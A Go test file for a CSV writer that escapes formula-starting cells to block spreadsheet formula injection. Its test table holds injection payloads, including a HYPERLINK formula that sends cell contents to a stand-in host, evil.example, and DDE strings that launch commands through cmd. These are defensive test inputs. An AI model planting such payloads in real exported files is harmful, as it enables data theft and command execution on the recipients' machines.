package csvout

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
)

// TestFinding06CSVInjection: cells a spreadsheet would run as formulas
// are written with a leading quote; the platform's own numbers are not.
func TestFinding06CSVInjection(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"},
		{"=1+2", "'=1+2"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'\r=1+2"},
		{"-", "'-"},
		{"--1", "'--1"},
		{"-1.", "'-1."},
		{"-12.50", "-12.50"},
		{"+3", "+3"},
		{"-0,5", "-0,5"},
		{"42", "42"},
		{"", ""},
		{"Udruženje = mladi", "Udruženje = mladi"},
		{"'=already", "'=already"},
		{" =1+2", " =1+2"}, // a leading space is text in every spreadsheet
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	var b bytes.Buffer
	w := New(&b)
	if err := w.Write([]string{"=1+2", "-12.50", "a,b"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), "'=1+2,-12.50,\"a,b\"\n"; got != want {
		t.Errorf("written %q, want %q", got, want)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestErrorIsWrapped(t *testing.T) {
	w := New(failWriter{})
	_ = w.Write([]string{"x"})
	w.Flush()
	if err := w.Error(); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("Error() = %v", err)
	}
}

// FuzzWriter: whatever a cell holds, read back it never begins with a
// formula character unless it is a number, and it is the input itself or
// the input behind one quote.
func FuzzWriter(f *testing.F) {
	for _, s := range []string{"=1+2", "-12.50", "@x", "\tx", "\rx", "+", "a\nb", "\"=x\"", ""} {
		f.Add(s, "-1")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var buf bytes.Buffer
		w := New(&buf)
		if err := w.Write([]string{a, b}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if w.Error() != nil {
			t.Skip() // invalid input for encoding/csv itself
		}
		for _, in := range []string{a, b} {
			out := Cell(in)
			if out != "" && formulaStart(out[0]) && !Number(out) {
				t.Errorf("Cell(%q) = %q starts a formula", in, out)
			}
			if out != in && out != "'"+in {
				t.Errorf("Cell(%q) = %q changes the text", in, out)
			}
		}
		r := csv.NewReader(&buf)
		r.FieldsPerRecord = -1
		rec, err := r.Read()
		if err != nil || len(rec) != 2 {
			return // encoding/csv does not round-trip every string (\r, lone quotes)
		}
		for _, cell := range rec {
			if cell != "" && formulaStart(cell[0]) && !Number(cell) {
				t.Errorf("read back %q starts a formula", cell)
			}
		}
	})
}
